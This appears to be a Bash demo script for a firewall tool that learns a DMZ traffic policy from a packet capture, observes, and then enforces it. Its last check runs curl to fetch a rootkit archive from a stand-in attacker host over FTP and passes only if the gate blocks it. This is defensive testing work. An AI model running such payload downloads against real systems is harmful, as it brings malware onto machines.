# shellcheck shell=bash disable=SC2034 # GATE_PID is read by the other pieces
# From a DMZ that nobody wrote down to a live policy. Sourced by scripts/demo.

learn_and_enforce() {
    local policy=$FOLDER/learnt.toml capture=$FOLDER/link.pcap
    say_step "The DMZ works for two days, and tcpdump listens at the router's DMZ side"
    start_link_capture "$capture"
    check_permitted
    # What begins in the last tenth of the time is not proposed, so the second day is like the first.
    check_permitted >/dev/null
    kill_group "${CAPTURES[@]}"
    say_step "A policy is learnt from the capture"
    check "portcullis learn -i dmz0 ${capture##*/}" \
        in_namespace router "$PORTCULLIS" learn -i dmz0 -o "$policy" "$capture"
    sed -n '/^\[roles/,/^\[servers/p' "$policy" | sed '/^\[servers/d'
    printf '\n[alarms]\neve = "%s"\n' "$FOLDER/eve.json" >>"$policy"
    check "its tests pass" in_namespace router "$PORTCULLIS" test "$policy"
    check "it would drop nothing of the capture" is_replay_clean "$policy" "$capture"
    say_step "It observes"
    echo "$PORTCULLIS" >"$STATE/gate"
    start_in router "$LOGS/gate.log" "$PORTCULLIS" run -i dmz0 -p "$policy"
    GATE_PID=$STARTED
    wait_until 60 is_observing || die "the gate is not attached" "see $LOGS/gate.log"
    check_permitted >/dev/null
    check_nothing_dropped
    say_step "It is enforced, on trial"
    sed 's/^mode = "observe"/mode = "enforce"/' "$policy" >"$FOLDER/enforced.toml"
    check "portcullis apply --confirm 10m" \
        in_namespace router "$PORTCULLIS" apply -i dmz0 "$FOLDER/enforced.toml" --confirm 10m
    check_permitted
    check_nothing_dropped
    check "portcullis confirm" in_namespace router "$PORTCULLIS" confirm -i dmz0
    check "a rootkit is not fetched any more" is_download_refused
}

# start_link_capture FILE: as start_capture, with the frames of both directions.
start_link_capture() {
    CAPTURES=()
    unconfined tcpdump -i dmz0 -n -s 256 -U --immediate-mode -w -
    # shellcheck disable=SC2016 # expanded by the inner shell
    start_in router "$1.log" sh -c 'exec "$@" >"$0"' "$1" "${UNCONFINED[@]}"
    CAPTURES+=("$STARTED")
    wait_until 30 grep -qs 'listening on' "$1.log" || die "tcpdump does not start" "see $1.log"
}

# What is quiet is dropped without an alarm.
is_replay_clean() {
    "$PORTCULLIS" replay -j -p "$1" "$2" | tee /dev/stderr |
        jq -e '[.drops[] | select(.quiet | not)] | length == 0'
}

is_observing() {
    ask_gate status 2>/dev/null | jq -e '.attached != "no"' >/dev/null
}

is_download_refused() {
    ! in_namespace web curl -sS --connect-timeout 3 -m 10 "ftp://$ATTACKER4/rootkit.tgz" &&
        ask_gate drops | jq -e '.[] | select(.proto == "tcp" and .port == 21)'
}
